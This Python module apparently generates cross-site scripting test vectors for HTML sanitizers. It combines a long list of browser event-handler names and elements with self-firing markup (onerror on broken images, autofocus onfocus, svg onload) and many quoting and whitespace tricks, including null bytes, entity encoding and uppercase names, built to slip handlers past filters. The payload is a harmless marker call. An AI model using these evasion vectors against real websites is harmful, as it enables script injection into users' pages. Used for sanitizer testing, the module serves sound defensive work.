"""Handlers of events: every name that Chromium knows, and a few of other browsers, on every sort of element, behind
every separator and in every sort of quotes.
"""

from collections.abc import Iterator
from itertools import cycle, islice

_EVENTS = """
abort activate afterprint afterscriptexecute afterupdate animationcancel animationend animationiteration animationstart
appinstalled auxclick beforeactivate beforecopy beforecut beforedeactivate beforeeditfocus beforeinput
beforeinstallprompt beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload beforeupdate
beforexrselect begin blur bounce cancel canplay canplaythrough change click close command
contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut dataavailable
datasetchanged dblclick deactivate devicelight devicemotion deviceorientation drag dragend dragenter dragexit
dragleave dragover dragstart drop durationchange emptied
encrypted end ended enterpictureinpicture error filterchange finish focus focusin focusout formdata freeze
fullscreenchange fullscreenerror gamepadconnected gamepaddisconnected gesturestart gotpointercapture hashchange help
input invalid keydown keypress keyup languagechange layoutcomplete leavepictureinpicture load loadeddata loadedmetadata
loadend loadstart losecapture lostpointercapture mediacomplete message messageerror mousedown mouseenter mouseleave
mousemove mouseout mouseover mouseup mousewheel move mozfullscreenchange offline online orientationchange outofsync
pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter pointerleave
pointerlockchange pointerlockerror pointermove pointerout pointerover pointerrawupdate pointerup popstate
prerenderingchange progress propertychange ratechange readystatechange rejectionhandled repeat reset resize resizeend
resizestart resume rowenter rowexit scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation
seek seeked seeking select selectionchange selectstart show slotchange stalled start stop storage submit suspend
syncrestored timeerror timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend
transitionrun transitionstart unhandledrejection unload urlflip userproximity visibilitychange volumechange waiting
waitingforkey webkitanimationend webkitanimationiteration webkitanimationstart webkitfullscreenchange
webkitfullscreenerror webkitmouseforcechanged webkitmouseforcedown webkitplaybacktargetavailabilitychanged
webkittransitionend webkitwillrevealbottom wheel zoom
"""

_ELEMENTS = """
p br a strong em b i del ins sub sup cite q code blockquote ul ol li pre h3 table tr th td img svg div span body input
video x custom-element details form button iframe math marquee
"""

# Each fires with nobody's help, or as good as. `{}` is the place of the handler, with a blank or what stands for one.
ALONE = {
    "error": (
        "<img src=x:{}>",
        "<image src=x:{}>",
        "<video src=x:{}></video>",
        "<video><source src=x:{}></video>",
        "<audio src=x:{}></audio>",
        "<input type=image src=x:{}>",
        "<object data=x:{}></object>",
        "<script src=x:{}></script>",
        "<link rel=stylesheet href=x:{}>",
        "<svg><image href=x:{}></svg>",
        "<svg><script href=x:{}></script></svg>",
        "<picture><source srcset=x:><img src=x:{}></picture>",
        "<video><track default src=x:{}></video>",
    ),
    "load": (
        "<svg{}>",
        "<svg{}/>",
        "<svg><g{}></g></svg>",
        "<body{}>",
        "<iframe{}></iframe>",
        "<iframe srcdoc=x{}></iframe>",
        "<frameset{}><frame></frameset>",
        "<style{}></style>",
        "<embed src=data:,x{}>",
        "<object data=data:,x{}></object>",
        "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA={}>",
        "<link rel=stylesheet href=data:,{}>",
        "<input type=image src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA={}>",
    ),
    "focus": (
        "<input autofocus{}>",
        "<textarea autofocus{}></textarea>",
        "<select autofocus{}></select>",
        "<button autofocus{}>x</button>",
        "<a href=https://a.nl autofocus{}>x</a>",
        "<b tabindex=0 autofocus{}>x</b>",
        "<p contenteditable autofocus{}>x</p>",
        "<keygen autofocus{}>",
        "<svg tabindex=0 autofocus{}></svg>",
        "<summary autofocus{}>x</summary>",
        "<iframe autofocus{}></iframe>",
    ),
    "toggle": ("<details open{}>x</details>", "<p popover id=p§{}>x</p><button popovertarget=p§>x</button>"),
    "beforetoggle": ("<b popover=manual{}>x</b>",),
    "animationstart": (
        "<style>@keyframes x{}</style><b style=animation:x{}>x</b>",
        "<progress value=.1{}></progress>",
    ),
    "animationend": ("<style>@keyframes y{}</style><b style='animation:y .01s'{}>x</b>",),
    "transitionend": ("<b style='transition:all .01s;color:red'{}>x</b>",),
    "contentvisibilityautostatechange": ("<b style=display:block;content-visibility:auto{}>x</b>",),
    "beforematch": ("<p hidden=until-found{}>x</p>",),
    "begin": (
        "<svg><animate attributeName=x dur=1s{}></svg>",
        "<svg><set attributeName=x{}></svg>",
        "<svg><animateMotion dur=1s{}></svg>",
        "<svg><animateTransform attributeName=transform dur=1s{}></svg>",
    ),
    "end": ("<svg><animate attributeName=x dur=.01s{}></svg>",),
    "repeat": ("<svg><animate attributeName=x dur=.01s repeatCount=2{}></svg>",),
    "pageshow": ("<body{}>",),
    "scroll": ("<body{}><input autofocus>", "<p style=overflow:auto;height:1px{}><br><br><input autofocus>"),
    "scrollend": ("<p style=overflow:auto;height:1px{}><br><br><br><input autofocus>",),
    "resize": ("<body{}>",),
    "hashchange": ("<body{}>",),
    "message": ("<body{}>",),
    "loadstart": ("<video src=x:{}></video>", "<audio{}><source src=x:></audio>"),
    "canplay": ("<audio src=data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEA{}></audio>",),
    "start": ("<marquee{}>x</marquee>",),
    "finish": ("<marquee loop=1 width=0{}>x</marquee>",),
    "invalid": ("<form><input required{}><input type=submit autofocus></form>",),
    "submit": ("<form{}><button autofocus>x</button></form>",),
    "close": ("<dialog open{}><form method=dialog><button>x</button></form></dialog>",),
    "cuechange": ("<video><track default src='data:text/vtt,WEBVTT'{}></video>",),
    "readystatechange": ("<xml{}></xml>",),
    "unhandledrejection": ("<body{}>",),
    "slotchange": ("<p><template shadowrootmode=open><slot{}></slot></template>x</p>",),
    "securitypolicyviolation": ("<b{}><b style=color:red></b></b>",),
}

QUOTINGS = (
    " {n}={v}",
    ' {n}="{v}"',
    " {n}='{v}'",
    " {n}=`{v}`",
    "/{n}={v}",
    "//{n}={v}//",
    "\n{n}={v}\n",
    "\t{n}\t=\t{v}",
    "\f{n}={v}",
    "\r\n{n}\r\n=\r\n'{v}'",
    " {N}={v}",
    " x=y {n}={v} z",
    ' x="y"{n}={v}',
    " x='y'{n}='{v}'",
    ' title=">"{n}="{v}"',
    " title='\"' {n}={v} '",
    ' title="a\'b" {n}="{v}"',
    " {n}={v}//",
    ' {n}="javascript:{v}"',
    " \x00{n}={v}",
    " {n}\x00={v}",
    "\x0b{n}={v}",
    "\xa0{n}={v}",
    "\u2028{n}={v}",
    ' "{n}={v}"',
    " ={n}={v}",
    " '\"`{n}={v}",
    ' {n}="{v}',
    " {n}={e}",
    ' {n}="{x}"',
    " {n}='hit&lpar;§&rpar;'",
    " {n}={n}={v}",
    " {n}=x {n}={v}",
    " href=https://a.nl {n}={v}",
    ' class="a" id=b {n}="{v}"',
    " on-x={v} {n}={v}",
    " data-{n}=1 {n}={v}",
    " xml:{n}=1 {n}={v}",
)

CALL = "hit(§)"
DECIMAL = "".join(f"&#{ord(sign)};" for sign in "hit") + "(§)"
HEXADECIMAL = "".join(f"&#x{ord(sign):x}" for sign in "hit") + ";(§)"

EVENTS, ELEMENTS = _EVENTS.split(), _ELEMENTS.split()

TRIED = 2
"""So many sorts of elements and ways of quoting, which take turns, for each event."""


def quoted(how: str, event: str) -> str:
    """The handler as an attribute, with what separates it from the element before it."""
    name = f"on{event}"
    return (
        how.replace("{n}", name)
        .replace("{N}", name.upper())
        .replace("{v}", CALL)
        .replace("{e}", DECIMAL)
        .replace("{x}", HEXADECIMAL)
    )


def vectors() -> Iterator[str]:
    elements, ways = cycle(ELEMENTS), cycle(QUOTINGS)
    for event, tags in ALONE.items():
        for tag in tags:
            before, _, after = tag.rpartition("{}")
            for how in (
                *QUOTINGS[:3],
                *islice(ways, len(QUOTINGS) // (4 if event in ("error", "load", "focus") else 9)),
            ):
                yield f"{before}{quoted(how, event)}{after}"
    for event in EVENTS:
        for _ in range(TRIED):
            element = next(elements)
            yield f"<{element}{quoted(next(ways), event)}>x</{element}>"
